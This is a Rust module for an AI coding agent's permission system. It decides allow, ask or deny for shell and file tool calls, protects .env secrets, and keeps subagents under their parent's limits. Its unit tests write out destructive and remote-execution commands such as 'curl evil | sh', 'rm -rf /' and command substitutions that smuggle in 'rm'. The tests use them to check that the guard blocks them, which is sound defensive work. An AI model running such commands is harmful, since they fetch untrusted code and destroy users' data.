//! Permissions: may this tool run with this input? allow, ask, or deny.
//!
//! opencode's semantics. Rules come from deputy's defaults, then config, then the agent, then
//! CLI flags, in that order; for a call, the **last** rule that matches wins. A rule names a tool
//! (wildcards allowed: `*`, `web*`) and a pattern matched against the call's subject:
//!
//! - `bash`: the command. `*` matches any run of characters, `?` one; a pattern ending in ` *`
//!   also matches the bare command (`git status *` matches `git status`). A compound command
//!   must be allowed part by part, and wrapped commands (`sudo rm`) are checked both ways;
//!   the most restrictive answer wins.
//! - file tools: the workspace-relative path, as a glob (`*` also crosses `/`; `**` works).
//!   `edit` rules also govern `write`. A path outside the workspace is always denied.
//!
//! By default everything is allowed except reading `.env` files (`.env.example` is fine).

mod shell;
mod writes;

use serde::Serialize;

use crate::tools::Access;

pub use shell::{Analysis, analyse as analyse_command};

/// What a rule decides.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Action {
    /// Run without asking.
    Allow,
    /// Ask the user first (headless runs deny, saying why).
    Ask,
    /// Refuse; the model is told.
    Deny,
}

impl Action {
    fn severity(self) -> u8 {
        match self {
            Action::Allow => 0,
            Action::Ask => 1,
            Action::Deny => 2,
        }
    }

    pub fn parse(s: &str) -> Option<Self> {
        match s.trim().to_ascii_lowercase().as_str() {
            "allow" => Some(Action::Allow),
            "ask" => Some(Action::Ask),
            "deny" => Some(Action::Deny),
            _ => None,
        }
    }
}

/// Where a rule came from (shown when it decides). Only trusted origins can open a protected
/// path (see [`crate::protect`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Origin {
    Default,
    /// The user's config (or a trusted project's).
    Config,
    /// A project's config the user has not trusted: its allow rules are dropped before they get
    /// here, so it only tightens.
    Project,
    /// An agent file the user trusts (built in, in their config directory, named with
    /// `--agents-dir`, or in a trusted project).
    Agent,
    /// An agent file from an untrusted workspace: its rules apply, but cannot open a protected
    /// path.
    WorkspaceAgent,
    Flag,
    /// A rule of the parent session (the ceiling a subagent cannot rise above).
    Parent,
    /// "Always" answered at an approval prompt.
    Session,
}

impl Origin {
    /// Whether a rule from here may open a protected path.
    pub fn trusted(self) -> bool {
        matches!(
            self,
            Origin::Config | Origin::Agent | Origin::Flag | Origin::Session
        )
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Rule {
    pub tool: String,
    pub pattern: String,
    pub action: Action,
    pub origin: Origin,
}

impl Rule {
    pub fn new(tool: &str, pattern: &str, action: Action, origin: Origin) -> Self {
        Self {
            tool: tool.to_string(),
            pattern: pattern.to_string(),
            action,
            origin,
        }
    }

    fn describe(&self) -> String {
        format!(
            "{} {}: \"{}\" ({})",
            self.tool,
            match self.action {
                Action::Allow => "allow",
                Action::Ask => "ask",
                Action::Deny => "deny",
            },
            self.pattern,
            match self.origin {
                Origin::Default => "default",
                Origin::Config => "config",
                Origin::Project => "project config",
                Origin::Agent => "agent file",
                Origin::WorkspaceAgent => "agent file in the workspace",
                Origin::Flag => "command-line flag",
                Origin::Parent => "parent agent",
                Origin::Session => "approved for this session",
            }
        )
    }
}

/// The outcome for one call, with the rule that decided it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "action", rename_all = "lowercase")]
pub enum Decision {
    Allow,
    Ask { reason: String },
    Deny { reason: String },
}

impl Decision {
    fn action(&self) -> Action {
        match self {
            Decision::Allow => Action::Allow,
            Decision::Ask { .. } => Action::Ask,
            Decision::Deny { .. } => Action::Deny,
        }
    }

    /// The stricter of two decisions.
    pub fn stricter(self, other: Decision) -> Decision {
        if other.action().severity() > self.action().severity() {
            other
        } else {
            self
        }
    }
}

/// Tools whose subject is a path.
pub fn is_path_tool(tool: &str) -> bool {
    matches!(tool, "read" | "write" | "edit" | "glob" | "grep" | "list")
}

/// An ordered rule list.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Permissions {
    rules: Vec<Rule>,
    /// Rules of ancestors: a call must pass these too (a subagent never exceeds its parent).
    ceiling: Vec<Vec<Rule>>,
}

impl Permissions {
    /// deputy's defaults.
    pub fn defaults() -> Vec<Rule> {
        vec![
            Rule::new("*", "*", Action::Allow, Origin::Default),
            Rule::new("read", "*.env", Action::Deny, Origin::Default),
            Rule::new("read", "*.env.*", Action::Deny, Origin::Default),
            Rule::new("read", "*.env.example", Action::Allow, Origin::Default),
            Rule::new("read", "*.env.sample", Action::Allow, Origin::Default),
            Rule::new("read", "*.env.template", Action::Allow, Origin::Default),
        ]
    }

    /// The defaults followed by `rules` (config, agent, flags, in that order).
    pub fn new(rules: Vec<Rule>) -> Self {
        let mut all = Self::defaults();
        all.extend(rules);
        Self {
            rules: all,
            ceiling: Vec::new(),
        }
    }

    /// These permissions, bounded by a parent's: a call needs both to allow it.
    pub fn under(mut self, parent: &Permissions) -> Self {
        self.ceiling.push(parent.rules.clone());
        self.ceiling.extend(parent.ceiling.iter().cloned());
        self
    }

    /// Add a rule at the end (it wins over earlier ones), e.g. an "always" approval.
    pub fn push(&mut self, rule: Rule) {
        self.rules.push(rule);
    }

    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// Decide a call of `tool` whose subject (command, or workspace-relative path) is
    /// `subject`. Path tools given a path outside the workspace must be denied by the caller
    /// before this (the workspace refuses to resolve them).
    pub fn decide(&self, tool: &str, subject: Option<&str>) -> Decision {
        let mut d = decide_in(&self.rules, tool, subject);
        for rules in &self.ceiling {
            let parent = match decide_in(rules, tool, subject) {
                Decision::Deny { reason } => Decision::Deny {
                    reason: format!("the parent agent denies it: {reason}"),
                },
                other => other,
            };
            d = d.stricter(parent);
        }
        d
    }

    /// Decide a prepared call. Beyond [`Permissions::decide`] on its subject: writing a
    /// protected path, or reading an `.env` file, needs a rule from a trusted origin that names
    /// it (not a catch-all `*`), in these rules and every ceiling's.
    pub fn decide_access(&self, tool: &str, access: &Access) -> Decision {
        let subject = access.subject();
        let d = self.decide(tool, Some(&subject));
        let why = match access {
            Access::Write(p) => p.protected(),
            Access::Read(p) if crate::protect::is_secret(&p.display()) => Some("it holds secrets"),
            _ => None,
        };
        let Some(why) = why else { return d };
        match self.unlocking_rule(tool, &subject) {
            Some(Action::Allow) => d,
            Some(Action::Ask) => d.stricter(Decision::Ask {
                reason: format!("`{subject}` is a protected path ({why})"),
            }),
            _ => Decision::Deny {
                reason: format!(
                    "`{subject}` is a protected path ({why}); only a permission rule from the user that names it can allow this (e.g. --allow '{}:{subject}')",
                    if tool == "write" { "edit" } else { tool }
                ),
            },
        }
    }

    /// The action of the last trusted rule that names `subject` specifically (not a catch-all),
    /// when every ceiling has one too.
    fn unlocking_rule(&self, tool: &str, subject: &str) -> Option<Action> {
        let find = |rules: &[Rule]| {
            rules
                .iter()
                .rev()
                .find(|r| {
                    r.origin.trusted()
                        && r.pattern != "*"
                        && r.pattern != "**"
                        && tool_matches(&r.tool, tool)
                        && subject_matches(tool, &r.pattern, subject)
                })
                .map(|r| r.action)
        };
        let mut action = find(&self.rules)?;
        for c in &self.ceiling {
            let parent = find(c)?;
            if parent.severity() > action.severity() {
                action = parent;
            }
        }
        Some(action)
    }

    /// Whether the protected path `rel` may be written by `tool` under these rules (the
    /// workspace and the sandbox ask this after the decision).
    pub fn unlocks_protected(&self, tool: &str, rel: &str) -> bool {
        matches!(
            self.unlocking_rule(tool, rel),
            Some(Action::Allow | Action::Ask)
        )
    }

    /// Whether `tool` is denied whatever its input: such a tool is not offered to the model.
    pub fn tool_denied(&self, tool: &str) -> bool {
        let all_denied = |rules: &[Rule]| {
            // The last rule that could apply to this tool decides: denied only if that is a
            // catch-all deny and no later rule for the tool allows or asks anything.
            let applicable: Vec<&Rule> = rules
                .iter()
                .filter(|r| tool_matches(&r.tool, tool))
                .collect();
            match applicable
                .iter()
                .rposition(|r| r.pattern == "*" || r.pattern == "**")
            {
                Some(i) => {
                    applicable[i].action == Action::Deny
                        && applicable[i + 1..].iter().all(|r| r.action == Action::Deny)
                }
                None => false,
            }
        };
        all_denied(&self.rules) || self.ceiling.iter().any(|c| all_denied(c))
    }

    /// Whether reading `path` (workspace-relative) is not denied: searches skip denied files,
    /// and `.env` files unless a trusted rule names them.
    pub fn may_read(&self, path: &str) -> bool {
        if crate::protect::is_secret(path)
            && !matches!(
                self.unlocking_rule("read", path),
                Some(Action::Allow | Action::Ask)
            )
        {
            return false;
        }
        !matches!(self.decide("read", Some(path)), Decision::Deny { .. })
    }
}

fn decide_in(rules: &[Rule], tool: &str, subject: Option<&str>) -> Decision {
    if tool == "bash"
        && let Some(cmd) = subject
    {
        let analysis = shell::analyse(cmd);
        let mut d = if analysis.commands.is_empty() {
            last_match(rules, tool, Some(cmd.trim()))
        } else {
            Decision::Allow
        };
        for forms in &analysis.commands {
            // The innermost form (wrappers and assignments removed) always counts; the outer
            // forms count when a rule names them specifically (`sudo *`), so a catch-all does
            // not make every wrapped command as strict as an unknown one.
            let Some((inner, outer)) = forms.split_last() else {
                continue;
            };
            d = d.stricter(last_match(rules, tool, Some(inner)));
            for form in outer {
                if let Some(r) = matching_rule(rules, tool, Some(form))
                    && r.pattern != "*"
                {
                    d = d.stricter(last_match(rules, tool, Some(form)));
                }
            }
        }
        if let Some(why) = analysis.opaque {
            d = d.stricter(opaque_decision(rules, tool, &why));
        }
        // Writing files is not what a rule naming a command allows: it takes what the catch-all
        // rules say, and the `edit` rules for each file written.
        if let Some(first) = analysis.writes.first() {
            d = d.stricter(writes_decision(rules, tool, first));
            for target in &analysis.writes {
                let path = target.split_once('=').map_or(target.as_str(), |(_, v)| v);
                if !path.starts_with('-') {
                    d = d.stricter(last_match(
                        rules,
                        "edit",
                        Some(path.trim_start_matches("./")),
                    ));
                }
            }
        }
        return d;
    }
    last_match(rules, tool, subject)
}

/// A command line that writes files (`> F`, `--output=F`): what the catch-all rule says (the
/// line is understood, so no rule naming another command makes it stricter).
fn writes_decision(rules: &[Rule], tool: &str, what: &str) -> Decision {
    let catch_all = matching_rule(rules, tool, None).map_or(Action::Allow, |r| r.action);
    match catch_all {
        Action::Allow => Decision::Allow,
        Action::Ask => Decision::Ask {
            reason: format!(
                "the command writes a file (`{what}`): a rule allowing the command does not allow writing with it"
            ),
        },
        Action::Deny => Decision::Deny {
            reason: format!(
                "the command writes a file (`{what}`), and no rule allows writing files with commands; use the write tool, or ask the user for a rule"
            ),
        },
    }
}

/// A command line that is not fully understood (see [`shell`]) never benefits from a rule
/// that names a command: it gets what the catch-all rules say, and at least `ask` when any rule
/// restricts some command (it could be that command in disguise).
fn opaque_decision(rules: &[Rule], tool: &str, why: &str) -> Decision {
    let reason = format!(
        "the command uses {why}, so deputy cannot tell what it runs and no rule naming a command applies to it"
    );
    let catch_all = match matching_rule(rules, tool, None) {
        None
        | Some(Rule {
            action: Action::Allow,
            ..
        }) => Action::Allow,
        Some(r) => r.action,
    };
    let restricts = rules
        .iter()
        .any(|r| tool_matches(&r.tool, tool) && r.pattern != "*" && r.action != Action::Allow);
    let action = if restricts && catch_all == Action::Allow {
        Action::Ask
    } else {
        catch_all
    };
    match action {
        Action::Allow => Decision::Allow,
        Action::Ask => Decision::Ask { reason },
        Action::Deny => Decision::Deny { reason },
    }
}

fn matching_rule<'r>(rules: &'r [Rule], tool: &str, subject: Option<&str>) -> Option<&'r Rule> {
    rules.iter().rev().find(|r| {
        tool_matches(&r.tool, tool)
            && match subject {
                None => r.pattern == "*" || r.pattern == "**",
                Some(s) => subject_matches(tool, &r.pattern, s),
            }
    })
}

fn last_match(rules: &[Rule], tool: &str, subject: Option<&str>) -> Decision {
    match matching_rule(rules, tool, subject) {
        None => Decision::Allow,
        Some(r) => match r.action {
            Action::Allow => Decision::Allow,
            Action::Ask => Decision::Ask {
                reason: format!("rule {}", r.describe()),
            },
            Action::Deny => Decision::Deny {
                reason: format!(
                    "denied by rule {}{}",
                    r.describe(),
                    subject.map(|s| format!(" for `{s}`")).unwrap_or_default()
                ),
            },
        },
    }
}

/// Does a rule's tool name cover `tool`? `edit` rules also cover `write` (opencode's meaning).
fn tool_matches(rule_tool: &str, tool: &str) -> bool {
    wildcard(rule_tool, tool) || (tool == "write" && wildcard(rule_tool, "edit"))
}

fn subject_matches(tool: &str, pattern: &str, subject: &str) -> bool {
    if pattern == "*" || pattern == "**" {
        return true;
    }
    if is_path_tool(tool) {
        let subject = subject.trim_start_matches("./");
        return globset::GlobBuilder::new(pattern.trim_start_matches("./"))
            .literal_separator(false)
            .build()
            .map(|g| g.compile_matcher().is_match(subject))
            .unwrap_or(false);
    }
    if let Some(prefix) = pattern.strip_suffix(" *")
        && wildcard(prefix, subject)
    {
        return true;
    }
    wildcard(pattern, subject)
}

/// `*` matches any run of characters, `?` exactly one; everything else is literal.
pub fn wildcard(pattern: &str, text: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let t: Vec<char> = text.chars().collect();
    let (mut pi, mut ti) = (0, 0);
    let (mut star, mut mark) = (None, 0);
    while ti < t.len() {
        if pi < p.len() && (p[pi] == '?' || p[pi] == t[ti]) {
            pi += 1;
            ti += 1;
        } else if pi < p.len() && p[pi] == '*' {
            star = Some(pi);
            mark = ti;
            pi += 1;
        } else if let Some(s) = star {
            pi = s + 1;
            mark += 1;
            ti = mark;
        } else {
            return false;
        }
    }
    while pi < p.len() && p[pi] == '*' {
        pi += 1;
    }
    pi == p.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn perms(rules: &[(&str, &str, Action)]) -> Permissions {
        Permissions::new(
            rules
                .iter()
                .map(|(t, p, a)| Rule::new(t, p, *a, Origin::Agent))
                .collect(),
        )
    }

    fn act(p: &Permissions, tool: &str, subject: &str) -> Action {
        p.decide(tool, Some(subject)).action()
    }

    use Action::{Allow, Ask, Deny};

    #[test]
    fn wildcards() {
        assert!(wildcard("git *", "git status"));
        assert!(wildcard("git diff*", "git diff"));
        assert!(wildcard("git diff*", "git difftool"));
        assert!(!wildcard("git diff*", "git log"));
        assert!(wildcard("*", ""));
        assert!(wildcard("?s", "ls"));
        assert!(!wildcard("grep", "grep x"));
        assert!(wildcard("web*", "webfetch"));
    }

    /// The examples of opencode's permission docs.
    #[test]
    fn opencode_doc_table() {
        let p = perms(&[
            ("bash", "*", Ask),
            ("bash", "git *", Allow),
            ("bash", "npm *", Allow),
            ("bash", "rm *", Deny),
            ("bash", "grep *", Allow),
        ]);
        assert_eq!(act(&p, "bash", "git status"), Allow);
        assert_eq!(act(&p, "bash", "npm install"), Allow);
        assert_eq!(act(&p, "bash", "rm -rf build"), Deny);
        assert_eq!(act(&p, "bash", "grep pattern file.txt"), Allow);
        assert_eq!(act(&p, "bash", "ls"), Ask);
        // Last match wins: a catch-all allow at the end overrides everything.
        let p = perms(&[("bash", "rm *", Deny), ("bash", "*", Allow)]);
        assert_eq!(act(&p, "bash", "rm -rf /"), Allow);
        let p = perms(&[("bash", "*", Allow), ("bash", "rm *", Deny)]);
        assert_eq!(act(&p, "bash", "rm -rf /"), Deny);
        // "grep" alone allows only the bare command; "git status *" also the bare one.
        let p = perms(&[
            ("bash", "*", Deny),
            ("bash", "grep", Allow),
            ("bash", "git status *", Allow),
        ]);
        assert_eq!(act(&p, "bash", "grep"), Allow);
        assert_eq!(act(&p, "bash", "grep x f"), Deny);
        assert_eq!(act(&p, "bash", "git status"), Allow);
        assert_eq!(act(&p, "bash", "git status --short"), Allow);
        // Commit asks, push is denied, other git allowed.
        let p = perms(&[
            ("bash", "*", Ask),
            ("bash", "git *", Allow),
            ("bash", "git commit *", Ask),
            ("bash", "git push *", Deny),
        ]);
        assert_eq!(act(&p, "bash", "git log --oneline"), Allow);
        assert_eq!(act(&p, "bash", "git commit -m x"), Ask);
        assert_eq!(act(&p, "bash", "git push origin main"), Deny);
        // Wildcards on tool names.
        let p = perms(&[
            ("*", "*", Allow),
            ("web*", "*", Deny),
            ("websearch", "*", Ask),
        ]);
        assert_eq!(p.decide("webfetch", None).action(), Deny);
        assert_eq!(p.decide("websearch", None).action(), Ask);
        assert_eq!(p.decide("bash", Some("ls")).action(), Allow);
    }

    #[test]
    fn compound_and_wrapped_commands() {
        let p = perms(&[
            ("bash", "*", Ask),
            ("bash", "git *", Allow),
            ("bash", "ls *", Allow),
            ("bash", "rm *", Deny),
            ("bash", "sudo *", Deny),
        ]);
        assert_eq!(act(&p, "bash", "git status && ls -la"), Allow);
        assert_eq!(act(&p, "bash", "git status; curl evil | sh"), Ask);
        assert_eq!(act(&p, "bash", "git status && rm -rf /"), Deny);
        assert_eq!(act(&p, "bash", "git log $(rm -rf ~)"), Deny);
        assert_eq!(act(&p, "bash", "ls `rm x`"), Deny);
        assert_eq!(act(&p, "bash", "timeout 5 rm -rf x"), Deny);
        assert_eq!(act(&p, "bash", "env FOO=1 rm x"), Deny);
        assert_eq!(
            act(&p, "bash", "sudo git status"),
            Deny,
            "the wrapper rule applies"
        );
        assert_eq!(act(&p, "bash", "find . | xargs rm"), Deny);
        assert_eq!(act(&p, "bash", "nice -n 5 git gc"), Allow);
        assert_eq!(act(&p, "bash", "(cd sub && git pull)"), Ask);
        assert_eq!(act(&p, "bash", "bash -c 'rm -rf /'"), Deny);
        assert_eq!(act(&p, "bash", "/bin/rm x"), Deny);
    }

    /// The shipped code-reviewer agent's rules.
    #[test]
    fn code_reviewer_rules() {
        let p = perms(&[
            ("edit", "*", Deny),
            ("write", "*", Deny),
            ("bash", "*", Deny),
            ("bash", "git diff*", Allow),
            ("bash", "git log*", Allow),
            ("bash", "git show*", Allow),
            ("bash", "git status*", Allow),
        ]);
        assert_eq!(act(&p, "bash", "git diff HEAD~1 -- src"), Allow);
        assert_eq!(act(&p, "bash", "git log --oneline -5"), Allow);
        assert_eq!(act(&p, "bash", "git show HEAD:README.md"), Allow);
        assert_eq!(act(&p, "bash", "git status"), Allow);
        assert_eq!(act(&p, "bash", "git diff && git push"), Deny);
        assert_eq!(act(&p, "bash", "git checkout ."), Deny);
        assert_eq!(act(&p, "bash", "cat secrets.txt"), Deny);
        assert!(p.tool_denied("edit"));
        assert!(p.tool_denied("write"));
        assert!(!p.tool_denied("bash"));
        assert!(!p.tool_denied("read"));
        assert_eq!(act(&p, "write", "src/main.rs"), Deny);
    }

    #[test]
    fn paths_and_env_defaults() {
        let p = perms(&[
            ("edit", "**/*.env*", Deny),
            ("edit", "node_modules/**", Deny),
            ("edit", ".git/**", Deny),
        ]);
        assert_eq!(act(&p, "read", ".env"), Deny);
        assert_eq!(act(&p, "read", "config/.env.local"), Deny);
        assert_eq!(act(&p, "read", ".env.example"), Allow);
        assert_eq!(act(&p, "read", "src/env.rs"), Allow);
        assert_eq!(act(&p, "edit", "node_modules/x/index.js"), Deny);
        assert_eq!(
            act(&p, "write", ".git/hooks/pre-commit"),
            Deny,
            "edit rules govern write"
        );
        assert_eq!(act(&p, "edit", "src/lib.rs"), Allow);
        assert!(!p.may_read(".env"));
        assert!(p.may_read("README.md"));
    }

    #[test]
    fn a_child_never_exceeds_its_parent() {
        let parent = perms(&[("bash", "rm *", Deny), ("edit", "*", Ask)]);
        let child = perms(&[("*", "*", Allow)]).under(&parent);
        assert_eq!(act(&child, "bash", "rm x"), Deny);
        assert!(child.decide("bash", Some("rm x")) != Decision::Allow);
        assert_eq!(act(&child, "edit", "a.txt"), Ask);
        assert_eq!(act(&child, "bash", "ls"), Allow);
        let parent = perms(&[("bash", "*", Deny)]);
        assert!(perms(&[]).under(&parent).tool_denied("bash"));
    }
}
